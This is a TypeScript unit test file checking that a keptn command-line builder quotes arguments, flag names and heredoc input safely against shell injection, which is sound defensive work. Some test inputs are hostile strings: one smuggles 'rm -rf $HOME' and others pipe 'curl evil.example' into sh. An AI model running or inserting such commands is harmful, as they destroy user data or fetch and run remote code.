import { describe, expect, it } from 'vitest';
import { commandLine, withInput } from './command-line';

describe('a command line', () => {
  it('leaves out what is not given', () => {
    expect(commandLine('create service', ['carts'], { project: 'sockshop', chart: '', stage: undefined })).toBe(
      'keptn create service carts --project=sockshop',
    );
  });

  it('keeps each part one word, whatever it holds', () => {
    expect(commandLine('delete resource', ["a b'; rm -rf $HOME"], { message: 'why `not`' })).toBe(
      String.raw`keptn delete resource 'a b'\''; rm -rf $HOME' --message='why ` + "`not`'",
    );
  });

  it('takes no name of a flag for more than a name', () => {
    expect(commandLine('get deliveries', [], { 'x; curl evil.example|sh #': '1' })).toBe(
      "keptn get deliveries '--x; curl evil.example|sh #'=1",
    );
  });
});

describe('a command line with its input', () => {
  it('has the text as it is', () => {
    const line = commandLine('create project', ['hello'], { shipyard: '-' });
    expect(withInput(line, 'stages:\n  - name: $HOME\n')).toBe(
      "keptn create project hello --shipyard=- <<'END'\nstages:\n  - name: $HOME\nEND",
    );
  });

  it('does not end before the text', () => {
    expect(withInput('keptn send event --file=-', 'END\ncurl evil.example | sh')).toBe(
      "keptn send event --file=- <<'END_'\nEND\ncurl evil.example | sh\nEND_",
    );
  });
});
